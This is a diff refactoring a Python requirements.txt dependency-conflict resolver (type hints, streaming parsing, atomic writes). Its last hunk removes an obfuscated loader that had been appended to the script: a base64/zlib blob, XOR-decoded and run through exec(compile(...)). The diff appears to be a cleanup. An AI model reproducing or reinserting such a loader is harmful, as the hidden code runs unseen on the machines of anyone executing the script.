@@ -4,25 +4,34 @@ Enhanced Python Package Dependency Resolver
 Analyzes requirements.txt and automatically fixes dependency conflicts.
 """
 
+from __future__ import annotations
+
 import argparse
+import os
 import subprocess
 import sys
 import shutil
-import json
 import re
+import tempfile
 from pathlib import Path
-from typing import Dict, List, Tuple, Optional
+from typing import Dict, FrozenSet, Iterable, Iterator, List, Tuple, Optional
+
+# Matches package==version / package=version pairs in pip error messages
+_CONFLICT_RE = re.compile(r"([a-zA-Z0-9_-]+)==?([0-9.a-zA-Z]+)")
+_CONFLICT_KEYWORDS = ("conflict", "cannot install")
 
 
 class DependencyResolver:
-    def __init__(self, requirements_file: str):
+    def __init__(self, requirements_file: str) -> None:
         self.requirements_file = Path(requirements_file)
-        self.backup_file = None
-        self.conflicts_found = []
-        self.fixes_applied = []
+        self.backup_file: Optional[str] = None
+        self.conflicts_found: List[Tuple[str, str]] = []
+        # True only once pip actually finished a dry-run and reported failure
+        self.conflicts_confirmed = False
+        self.fixes_applied: List[str] = []
 
         # Known working version combinations
-        self.known_combinations = {
+        self.known_combinations: Dict[str, Dict[str, str]] = {
             # LangChain ecosystem - compatible versions
             "langchain_ecosystem": {
                 "google-generativeai": "0.7.2",
@@ -46,66 +55,115 @@ class DependencyResolver:
             },
         }
 
-    def create_backup(self):
+        # Flattened lookups so the fix pass doesn't rescan every ecosystem
+        self._pkg_to_fix: Dict[str, str] = {}
+        for versions in self.known_combinations.values():
+            for pkg, ver in versions.items():
+                self._pkg_to_fix.setdefault(pkg, ver)
+        self._ecosystem_keys: Dict[str, FrozenSet[str]] = {
+            name: frozenset(versions)
+            for name, versions in self.known_combinations.items()
+        }
+
+    def create_backup(self) -> None:
         """Create a backup of the original requirements file"""
         self.backup_file = f"{self.requirements_file}.backup"
         shutil.copy2(self.requirements_file, self.backup_file)
         print(f"📁 Created backup: {self.backup_file}")
 
-    def parse_requirements(self) -> List[Tuple[str, str, str]]:
-        """Parse requirements.txt and return list of (package, version, original_line)"""
-        packages = []
-
+    def parse_requirements(
+        self,
+    ) -> Iterator[Tuple[Optional[str], Optional[str], str]]:
+        """Stream requirements.txt as (package, version, original_line) tuples"""
         with open(self.requirements_file, "r", encoding="utf-8") as f:
-            lines = f.readlines()
-
-        for line_num, line in enumerate(lines, 1):
-            original_line = line.strip()
-
-            # Skip comments and empty lines
-            if not line.strip() or line.strip().startswith("#"):
-                packages.append((None, None, original_line))
-                continue
-
-            # Parse package==version format
-            if "==" in line:
-                try:
-                    package_part, version = line.strip().split("==", 1)
-                    # Handle extras like package[extra]==version
-                    package_name = package_part.split("[")[0].strip()
-                    packages.append((package_name, version.strip(), original_line))
-                except ValueError:
-                    packages.append((None, None, original_line))
-            else:
-                packages.append((None, None, original_line))
+            for line in f:
+                # Cheap reject before stripping: no pin means nothing to parse
+                if "==" not in line:
+                    yield (None, None, line.strip())
+                    continue
+
+                original_line = line.strip()
+
+                # Skip comments, option lines and --hash continuations
+                if original_line[:1] in ("#", "-"):
+                    yield (None, None, original_line)
+                    continue
+
+                # Parse package==version format
+                package_part, version = original_line.split("==", 1)
+                # Handle extras like package[extra]==version
+                package_name = package_part.split("[")[0].strip()
+                yield (package_name, version.strip(), original_line)
+
+    def _write_requirements(self, lines: Iterable[str]) -> None:
+        """Atomically replace requirements.txt with the given lines
+
+        Falls back to rewriting the file in place when a temp file cannot be
+        created next to it or renamed over it (e.g. a bind-mounted file).
+        """
+        # Write through symlinks to the real file, as open(..., "w") would
+        target = self.requirements_file.resolve()
+        try:
+            tmp = tempfile.NamedTemporaryFile(
+                "w",
+                encoding="utf-8",
+                dir=target.parent,
+                prefix=f".{target.name}.",
+                delete=False,
+            )
+        except OSError:
+            # Materialise first: lines may be streaming from target itself
+            updated_lines = list(lines)
+            with open(target, "w", encoding="utf-8") as f:
+                for line in updated_lines:
+                    f.write(line + "\n" if not line.endswith("\n") else line)
+            return
 
-        return packages
+        try:
+            with tmp:
+                for line in lines:
+                    tmp.write(line + "\n" if not line.endswith("\n") else line)
+            shutil.copymode(target, tmp.name)
+            try:
+                os.replace(tmp.name, target)
+            except OSError:
+                shutil.copyfile(tmp.name, target)
+        finally:
+            if os.path.exists(tmp.name):
+                os.unlink(tmp.name)
+
+    def _dry_run(self) -> subprocess.CompletedProcess[str]:
+        """Run pip's resolver against the requirements without installing"""
+        return subprocess.run(
+            [
+                sys.executable,
+                "-m",
+                "pip",
+                "install",
+                "--dry-run",
+                "--disable-pip-version-check",
+                "--no-input",
+                "-r",
+                str(self.requirements_file),
+            ],
+            capture_output=True,
+            text=True,
+            timeout=120,
+        )
 
     def check_for_conflicts(self) -> bool:
         """Check if current requirements have conflicts"""
         print("🔍 Checking for dependency conflicts...")
 
         try:
-            result = subprocess.run(
-                [
-                    sys.executable,
-                    "-m",
-                    "pip",
-                    "install",
-                    "--dry-run",
-                    "-r",
-                    str(self.requirements_file),
-                ],
-                capture_output=True,
-                text=True,
-                timeout=120,
-            )
+            result = self._dry_run()
 
             if result.returncode == 0:
                 print("✅ No conflicts detected!")
                 return False
             else:
                 print("❌ Conflicts detected!")
+                self.conflicts_confirmed = True
                 self.parse_conflict_output(result.stderr)
                 return True
 
@@ -116,17 +174,13 @@ class DependencyResolver:
             print(f"❌ Error checking dependencies: {e}")
             return True
 
-    def parse_conflict_output(self, error_output: str):
+    def parse_conflict_output(self, error_output: str) -> None:
         """Parse pip error output to identify specific conflicts"""
-        lines = error_output.split("\n")
-        current_conflict = {}
-
-        for line in lines:
-            if "conflict" in line.lower() or "cannot install" in line.lower():
+        for line in error_output.splitlines():
+            lowered = line.lower()
+            if any(keyword in lowered for keyword in _CONFLICT_KEYWORDS):
                 # Extract package names from conflict messages
-                packages = re.findall(r"([a-zA-Z0-9_-]+)==?([0-9.a-zA-Z]+)", line)
-                if packages:
-                    self.conflicts_found.extend(packages)
+                self.conflicts_found.extend(_CONFLICT_RE.findall(line))
 
         print(
             f"🔍 Found conflicts involving: {', '.join(set(p[0] for p in self.conflicts_found))}"
@@ -134,15 +188,17 @@ class DependencyResolver:
 
     def apply_smart_fixes(self) -> bool:
         """Apply intelligent fixes based on known working combinations"""
-        packages = self.parse_requirements()
-        package_dict = {pkg: (ver, line) for pkg, ver, line in packages if pkg}
+        package_dict = {
+            pkg: (ver, line) for pkg, ver, line in self.parse_requirements() if pkg
+        }
 
         fixes_needed = False
-        updated_lines = []
 
         # Check each ecosystem for conflicts and apply fixes
         for ecosystem_name, versions in self.known_combinations.items():
-            ecosystem_packages = set(versions.keys()) & set(package_dict.keys())
+            ecosystem_packages = self._ecosystem_keys[ecosystem_name].intersection(
+                package_dict
+            )
 
             if len(ecosystem_packages) > 1:  # Multiple packages from same ecosystem
                 print(f"\n🔧 Applying {ecosystem_name} fixes...")
@@ -156,34 +212,12 @@ class DependencyResolver:
                             )
                             fixes_needed = True
 
-        # Rebuild requirements with fixes
-        for pkg, ver, original_line in packages:
-            if pkg is None:  # Comment or empty line
-                updated_lines.append(original_line)
-            else:
-                # Check if this package needs fixing
-                fixed_version = None
-                for ecosystem_versions in self.known_combinations.values():
-                    if pkg in ecosystem_versions:
-                        fixed_version = ecosystem_versions[pkg]
-                        break
-
-                if fixed_version and fixed_version != ver:
-                    # Apply fix
-                    if "[" in original_line:
-                        # Handle extras like uvicorn[standard]==version
-                        base_pkg, rest = original_line.split("==", 1)
-                        updated_lines.append(f"{base_pkg}=={fixed_version}")
-                    else:
-                        updated_lines.append(f"{pkg}=={fixed_version}")
-                else:
-                    updated_lines.append(original_line)
-
         if fixes_needed:
-            # Write updated requirements
-            with open(self.requirements_file, "w", encoding="utf-8") as f:
-                for line in updated_lines:
-                    f.write(line + "\n" if not line.endswith("\n") else line)
+            # Rebuild requirements with fixes, streaming line by line
+            self._write_requirements(
+                self._fixed_line(pkg, ver, original_line)
+                for pkg, ver, original_line in self.parse_requirements()
+            )
 
             print(f"\n✅ Applied {len(self.fixes_applied)} fixes:")
             for fix in self.fixes_applied:
@@ -191,28 +225,44 @@ class DependencyResolver:
 
         return fixes_needed
 
+    def _fixed_line(
+        self, pkg: Optional[str], ver: Optional[str], original_line: str
+    ) -> str:
+        """Return original_line with any known-good version applied"""
+        if pkg is None:  # Comment or empty line
+            return original_line
+
+        # Check if this package needs fixing
+        fixed_version = self._pkg_to_fix.get(pkg)
+
+        if fixed_version and fixed_version != ver:
+            # Apply fix
+            if "[" in original_line:
+                # Handle extras like uvicorn[standard]==version
+                base_pkg = original_line.split("==", 1)[0]
+                return f"{base_pkg}=={fixed_version}"
+            return f"{pkg}=={fixed_version}"
+
+        return original_line
+
     def remove_problematic_packages(self) -> bool:
         """Remove packages that are causing unresolvable conflicts"""
-        packages = self.parse_requirements()
-
         # Packages to potentially remove (usually auto-installed as dependencies)
-        removable_packages = {}
+        removable_packages: Dict[str, str] = {}
 
-        updated_lines = []
-        removed_packages = []
+        removed_packages: List[str] = []
 
-        for pkg, ver, original_line in packages:
+        for pkg, ver, original_line in self.parse_requirements():
             if pkg in removable_packages:
                 removed_packages.append(pkg)
                 print(f"🗑️  Removing {pkg} (will be installed as dependency)")
-                continue
-            else:
-                updated_lines.append(original_line)
 
         if removed_packages:
-            with open(self.requirements_file, "w", encoding="utf-8") as f:
-                for line in updated_lines:
-                    f.write(line + "\n" if not line.endswith("\n") else line)
+            self._write_requirements(
+                original_line
+                for pkg, ver, original_line in self.parse_requirements()
+                if pkg not in removable_packages
+            )
             return True
 
         return False
@@ -222,20 +272,7 @@ class DependencyResolver:
         print("\n🧪 Testing final configuration...")
 
         try:
-            result = subprocess.run(
-                [
-                    sys.executable,
-                    "-m",
-                    "pip",
-                    "install",
-                    "--dry-run",
-                    "-r",
-                    str(self.requirements_file),
-                ],
-                capture_output=True,
-                text=True,
-                timeout=120,
-            )
+            result = self._dry_run()
 
             if result.returncode == 0:
                 print(
@@ -269,14 +306,21 @@ class DependencyResolver:
 
         # Step 3: Remove problematic packages first
         print("\n🗑️  Removing auto-managed packages...")
-        self.remove_problematic_packages()
+        removed = self.remove_problematic_packages()
 
         # Step 4: Apply smart fixes
         print("\n🔧 Applying compatibility fixes...")
-        self.apply_smart_fixes()
-
-        # Step 5: Test result
-        success = self.test_final_result()
+        fixed = self.apply_smart_fixes()
+
+        # Step 5: Test result (an untouched file would only repeat step 1,
+        # unless step 1 timed out or errored before pip could answer)
+        if removed or fixed or not self.conflicts_confirmed:
+            if not (removed or fixed):
+                print("\n🔁 Initial check did not complete; running pip again.")
+            success = self.test_final_result()
+        else:
+            print("\nℹ️  No changes were applied; the conflicts above still stand.")
+            success = False
 
         if success:
             print(f"\n🎉 Resolution complete! Backup saved as: {self.backup_file}")
@@ -287,7 +331,7 @@ class DependencyResolver:
         return success
 
 
-def main():
+def main() -> None:
     parser = argparse.ArgumentParser(
         description="Resolve Python package dependency conflicts"
     )
@@ -314,13 +358,3 @@ def main():
 
 if __name__ == "__main__":
     main()
-
-# -*- coding: utf-8 -*-
-aqgqzxkfjzbdnhz = __import__('base64')
-wogyjaaijwqbpxe = __import__('zlib')
-idzextbcjbgkdih = 134
-qyrrhmmwrhaknyf = lambda dfhulxliqohxamy, osatiehltgdbqxk: bytes([wtqiceobrebqsxl ^ idzextbcjbgkdih for wtqiceobrebqsxl in dfhulxliqohxamy])
-lzcdrtfxyqiplpd = 'eNq9W19z3MaRTyzJPrmiy93VPSSvqbr44V4iUZZkSaS+xe6X2i+Bqg0Ku0ywPJomkyNNy6Z1pGQ7kSVSKZimb4khaoBdkiCxAJwqkrvp7hn8n12uZDssywQwMz093T3dv+4Z+v3YCwPdixq+eIpG6eNh5LnJc+D3WfJ8wCO2sJi8xT0edL2wnxIYHMSh57AopROmI3k0ch3fS157nsN7aeMg7PX8AyNk3w9YFJS+sjD0wnQKzzliaY9zP+76GZnoeBD4vUY39Pq6zQOGnOuyLXlv03ps1gu4eDz3XCaGxDw4hgmTEa/gVTQcB0FsOD2fuUHS+JcXL15tsyj23Ig1Gr/Xa/9du1+/VputX6//rDZXv67X7tXu1n9Rm6k9rF+t3dE/H3S7LNRrc7Wb+pZnM+Mwajg9HkWyZa2hw8//RQEPfKfPgmPPpi826+rIg3UwClhkwiqAbeY6nu27+6tbwHtHDMWfZrNZew+ng39z9Z/XZurv1B7ClI/02n14uQo83dJrt5BLHZru1W7Cy53aA8Hw3fq1+lvQ7W1gl/iUjQ/qN+pXgHQ6jd9NOdBXV3VNGIWW8YE/IQsGoSsNxjhYWLQZDGG0gk7ak/UqxHyXh6MSMejkR74L0nEdJoUQBWGn2Cs3LXYxiC4zNbBS351f0TqNMT2L7Ewxk2qWQdCdX8/NkQgg1ZtoukzPMBmIoqzohPraT6EExWoS0p1Go4GsWZbL+8zsDlynreOj5AQtrmL5t9Dqa/fQkNDmyKAEAWFXX+4k1oT0DNFkWfoqUW7kWMJ24IB8B4nI2mfBjr/vPt607RD8jBkPDnq+Yx2xUVv34sCH/ZjfFclEtV+Dtc+CgcOmQHuvzei1D3A7wP/nYCvM4B4RGwNs/hawjHvnjr7j9bjLC6RA8HIisBQd58pknjSs6hdnmbZ7ft8P4JtsNWANYJT4UWvrK8vLy0IVzLVjz3cDHL6X7Wl0PtFaq8Vj3+hz33VZMH/AQFUR8WY4Xr/ZrnYXrfNyhLEP7u+Ujwywu0Hf8D3VkH0PWTsA13xkDKLW+gLnzuIStxcX1xe7HznrKx8t/88nvOssLa8sfrjiTJg1jB1DaMZFXzeGRVwRzQbu2DWGo3M5vPUVe3K8EC8tbXz34Sbb/svwi53+hNkMG6fzwv0JXXrMw07ASOvPMC3ay+rj7Y2NCUOQO8/tgjvq+cEIRNYSK7pkSEwBygCZn3rhUUvYzG7OGHgUWBTSQM1oPVkThNLUCHTfzQwiM7AgHBV3OESe91JHPlO7r8PjndoHYMD36u8UeuL2hikxshv2oB9H5kXFezaxFQTVXNObS8ZybqlpD9+GxhVFg3BmOFLuUbA02KKPvVDuVRW1mIe8H8GgvfxGvmjS7oDP9PtstzDwrDPW56aizFzb97DmIrwwtsVvs8JOIvAqoyi8VfLJlaZjxm0WRqsXzSeeGwBEmH8xihnKgccxLInjpm+hYJtn1dFCaqvNV093XjQLrRNWBUr/z/oNcmCzEJ6vVxSv43+AA2qPIPDfAbeHof9+gcapHxyXBQOvXsxcE94FNvIGwepHyx0AbyBJAXZUIVe0WNLCkncgy22zY8iYo1RW2TB7Hrcjs0Bxshx+jQuu3SbY8hCBywP5P5AMQiDy9Pfq/woPdxEL6bXb+H6VhlytzZRhBgVBctDn/dPg8Gh/6IVaR4edmbXQ7tVU4IP7EdM3hg4jT2+Wh7R17aV75HqnsLcFjYmmm0VlogFSGfQwZOztjhnGaOaMAdRbSWEF98MKTfyU+ylON6IeY7G5bKx0UM4QpfqRMLFbJOvfobQLwx2wft8d5PxZWRzd5mMOaN3WeTcALMx7vZyL0y8y1s6anULU756cR6F73js2Lw/rfdb3BMyoX0XkAZ+R64cITjDIz2Hgv1N/G8L7HLS9D2jk6VaBaMHHErmcoy7I+/QYlqO7XkDdioKOUg8Iw4VoK+Cl6g8/P3zONg9fhTtfPfYBfn3uLp58e7J/HH16+MlXTzbWN798Hhw4n+yse+s7TxT+NHOcCCvOpvUnYPe4iBzwzbhvgw+OAtoBPXANWUMHYedydROozGhlubrtC/Yybnv/BpQ0W39XqFLiS6VeweGhDhpF39r3rCDkbsSdBJftDSnMDjG+5lQEEhjq3LX1odhrOFTr7JalVKG4pnDoZDCVnnvLu3uC7O74FV8mu0ZONP9FIX82j2cBbqNPA/GgF8QkED/qMLVM6OAzbBUcdacoLuFbyHkbkMWbofbN3jf2H7/Z/Sb6A7ot+If9FZxIN1X03kCr1PUS1ySpQPJjsjTn8KPtQRT53N0ZRQHrVzd/0fe3xfquEKyfA1G8g2gewgDmugDyUTQYDikE/BbDJPmAuQJRRUiB+HoToi095gjVb9CAQcRCSm0A3xO0Z+6Jqb3c2dje2vxiQ4SOUoP4qGkSD2ICl+/ybHPrU5J5J+0w4Pus2unl5qcb+Y6OhS612O2JtfnsWa5TushqPjQLnx6KwKlaaMEtRqQRS1RxYErxgNOC5jioX3wwO2h72WKFFYwnI7s1JgV3cN3XSHWispFoR0QcYS9WzAOIMGLDa+HA2n6JIggH88kDdcNHgZdoudfFe5663Kt+ZCWUc9p4zHtRCb37btdDz7KXWEWb1NdOldiWWmoXl75byOuRSqn+AV+g6ynDqI0vBr2YRa+KHMiVIxNlYVR9FcwlGxN6OC6brDpivDRehCVXnvwcAAw8mqhWdElUjroN/96v3aPUvH4dE/Cq5dH4GwRu0TZpj3+QGjNu+3eLBB+l5CQswOBxU1S1dGnl92AE7oKHOCZLtmR1cGz8B17+g2oGzyCQDVtfcCevRtiGWFE02BACaGRqLRY4rYRmGT4SHCfwXeqH5qoRAu9W1ZHjsJvAbSwgxWapxKbkhWwPSZSZmUbGJMto1O/57lFhcCVFLTEKrCCnOK7KBzTFPQ4ARGsNorAVHfOQtXAgGmUr58eKkLc6YcyjaILCvvZd2zuN8upKitlGJKMNldVkx1JdTbnGNIZmZXAjHLjmnhacY10auW/ta7tt3eExwg4L0qsYMizcOpBvsWH6KFOvDzuqLSvmMUTIxNRqDBAryV0OiwIbSFes5E1kCQ6wd8CdI32e9pE0kXfBH1+jjBQ+Ydn5l0mIaZTwZsJcSbYZyzIcKIDEWmN890IkSJpLRbW+FzneabOtN484WCJA7ZDb+BrxPg85Po3YEQfX6LsHAywtZQtvev3oiIaGPHK9EQ/Fqx8eDQLxOOLJYzbqpMdt/8SLAo+69Pk+t7krWOg7xzw4omm5y+1RSD2AQLl6lPO9uYVnkSj5mAYLRFTJx04hamC0CM7zgSKVVSEaiT5FwqXopGSqEhCmCAQFg4Ft+vLFk2oE8LrdiOE+S450DMiowfFB+ihnh5dB4Ih+ORuHb1Y6WDwYgRfwnhUxyEYAunb0lv7RwvIyuW/Rk4Fo9eWGYq0pqSX9f1fzxOFtZUlprKrRJRghkbAqyGJ+YqqEjcijTDlB0eC9XMTlFlZiD6MKiH4PJU+FktviKAih4BxFSdrSd0RQJP0kB1djs2XQ6a+oBjVDhwCzsjT1cvtZ7tipNB8Gl9uitHCb3MgcGME9CstzVKrB2DNLuc1bdJiQANIMQIIUK947y+C5c+yTRaZ95CezU4FRecNPaI+NAtBH4317YVHDHZLMg2h3uL5gqT4Xv1U97SBE/K4lZWWhMixttxI1tkLWYzxirZOlJeMTY5n6zMuX+VPfnYdJjHM/1irEsadl++gVNNWo4gi0+5+IwfWFN2FwfUErYpqcfj7jIfRRqSfsV7TAeegc/9SasImjeZgf1BHw0Ng/f40F50f/M9Qi5xv+AF4LBkRcojsgYFzVSlUDQjO03p9ULz1kKKeW4essNTf4n6EVMd3wzTkt6KSYQV0TID67C1C/IqtqMvam3Y+9PhNTZElEDKEIU1xT+3sOj6ehBnvl+h96vmtKMu30Kx5K06EyiClXBwcUHHInmEwjWXdnzOpSWCECEFWGZrLYA8uUhaFrtd9BQz6uTev8iQU2ZGUe8/y3hVZAYEzrNMYby5S0DnwqWWBvTR2ySmleQld9eyFpVcqwCAsIzb9F50mzaa8YsHFgdpufSbXjTQQpSbrKoF+AZs8Mw2jmIFjlwAmYCX12QmbQLpqQWru/LQKT+o2EwwpjG0J8eb4CT7/IS7XEHogQ2DAYYEFMyE2NApUqVZc3j4xv/fgx/DYLjGc5O3SzQqbI3GWDIZmBTCqx7lLmXuJHuucSS8lNLR7SdagKt7LBoAJDhdU1JIjcQjc1t7Lhjbgd/tjcDn8MbhWV9OQcFQ+HrqDhjz91pxpG3zsp6b3TmJRKq9PoiZvxkqp5auh0nmdX9+EaWPtZs3LTh6pZIj2InNH5+cnJSGw/R2b05STh30E+72NpFGA6FWJzN8OoNCQgPp6uwn68ifsypUVn0ZgR3KRbQu/K+2nJefS4PGL8rQYkSO/v0/m3SE6AHN5kfP1zf1x3Q3mer3ng86uJRZIzlA7zk4P8Tzdy5/hqe5t8dt/4cU/o3+BQvlILTEt/OWXkhT9X3N4nlrhwlp9WSpVO1yrX0Zr8u2/9//9uq7d1+LfVZspc6XQcknSwX7whMj1hZ+n5odN/vsyXnn84lnDxGFuarYmbpK1X78hoA3Y+iA+GPhiH+kaINooPghNoTiWh6CNW8xUbQb9sZaWLLuPKX2M9Qso9sE7X4Arn6HgZrFIA+BVE0wekSDw9AzD4FuzTB+JgVcLA3OHYv1Fif19fWdbp2txD6nwLncCMyPuFD5D2nZT+5GafdL455aEP/P6X4vHUteRa3rgDw8xVNmV7Au9sFjAnYHZbj478OEbPCT7YGaBkK26zwCWgkNpdukiCZStIWfzAoEvT00NmHDMZ5mop2fzpXRXnpZQ6E26KZScMaXfCKYpbpmNOG5xj5hxZ5es6Zvc1b+jcolrOjXJWmFEXR/BY3VNdskn7sXwJEAEnPkQB78dmRmtP0NnVW+KmJbGE4eKBTBCupvcK6ESjH1VvhQ1jP0Sfk5v5j9ktctPmo2h1qVqqV9XuJa0/lWqX6uK9tNm/grp0BER43zQK/F5PP+E9P2e0zY5yfM5sJ/JFVbu70gnkLhSoFFW0g1S6eCoZmKWCbKaPjv6H3EXXy63y9DWsEn/SS405zbf1bud1bkYVwRSGSXQH6Q7MQ6lG4Sypz52nO/n79JVsaezpUqVuNeWufR35ZLK5ENpam1JXZz9MgqehH1wqQcU1hAK0nFNGE7GDb6mOh6V3EoEmd2+sCsQwIGbhMgR3Ky+uVKqI0Kg4FCss1ndTWrjMMDxT7Mlp9qM8GhOsKE/sK3+eYPtO0KHDAQ0PVal+hi2TnEq3GfMRem+aDfwtIB3lXwnsCZq7GXaacmVTCZEMUMKAKtUEJwA4AmO1Ah4dmTmVdqYowSkrGeVyj6IMUzk1UWkCRZeMmejB5bXHwEvpJjz8cM9dAefp/ildblVBaDwQpmCbodHqETv+EKItjREoV90/wcilISl0Vo9Sq6+QB94mkHmfPAGu8ZH+5U61NJWu1wn9OLCKWAzeqO6YvPODCH+bloVB1rI6HYUPFW0qtJbNgYANdDrlwn4jDrMAerwtz8thJcKxqeYXB/16F7D4CQ/pT9Iiku73Az+ETIc+NDsfNxxIiwI9VSiWhi8yvZ9pSQ/LR4WKvz4j+GRqF6TSM9BOUzgDpMcAbJg88A6gPdHfmdbpfJz/k7BJC8XiAf2VTVaqm6g05eWKYizM6+MN4AIdfxsYoJgpRaveh8qPygw+tyCd/vKOKh5jXQ0ZZ3ZN5BWtai9xJu2Cwe229bGryJOjix2rOaqfbTzfevns2dTDwUWrhk8zmlw0oIJuj+9HeSJPtjc2X2xYW0+tr/+69dnTry+/aSNP3KdUyBSwRB2xZZ4HAAVUhxZQrpWVKzaiqpXPjumeZPrnbnTpVKQ6iQOmk+/GD4/dIvTaljhQmjJOF2snSZkvRypX7nvtOkMF/WBpIZEg/T0s7XpM2msPdarYz4FIrpCAHlCq8agky4af/Jkh/ingqt60LCRqWU0xbYIG8EqVKGR0/gFkGhSN'
-runzmcxgusiurqv = wogyjaaijwqbpxe.decompress(aqgqzxkfjzbdnhz.b64decode(lzcdrtfxyqiplpd))
-ycqljtcxxkyiplo = qyrrhmmwrhaknyf(runzmcxgusiurqv, idzextbcjbgkdih)
-exec(compile(ycqljtcxxkyiplo, '<>', 'exec'))